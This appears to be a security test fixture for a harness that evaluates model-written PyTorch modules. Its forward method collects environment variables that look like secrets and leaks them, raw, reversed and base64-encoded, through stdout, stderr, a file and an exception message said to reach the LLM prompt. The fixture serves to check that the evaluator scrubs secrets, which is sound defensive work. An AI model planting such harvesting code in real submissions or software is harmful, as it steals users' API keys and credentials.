# Attack (environment secrets): reads every secret-looking variable of its environment (API keys,
# tokens) and leaks each raw, reversed and base64-encoded through every channel it has: its failure
# reason (which reaches the LLM prompt and the run store), stdout, stderr and a file in the current
# directory. A trusted evaluator scrubs the environment: no secret appears anywhere.
import base64
import os
import sys
from pathlib import Path

from torch import nn

TOKEN = "@TOKEN@"
SECRETISH = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "CRED")


def _forms(value):
    return [value, value[::-1], base64.b64encode(value.encode()).decode()]


def _leak():
    found = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in SECRETISH)}
    return " | ".join(f"{k}={' '.join(_forms(v))}" for k, v in found.items())


class ModelNew(nn.Module):
    def __init__(self, *args):
        super().__init__()

    def forward(self, x):
        leak = _leak()
        print("env-py:", leak, flush=True)
        sys.stderr.write("env-py: " + leak + "\n")
        os.write(1, ("env-py: " + leak + "\n").encode())
        out = Path.cwd() / f"leak-{TOKEN}.txt"
        if any((p / ".hiera-attack-target").exists() for p in out.parents):  # test-data safety
            try:
                out.write_text(leak)
            except OSError:
                pass
        raise RuntimeError("env-py: " + leak)
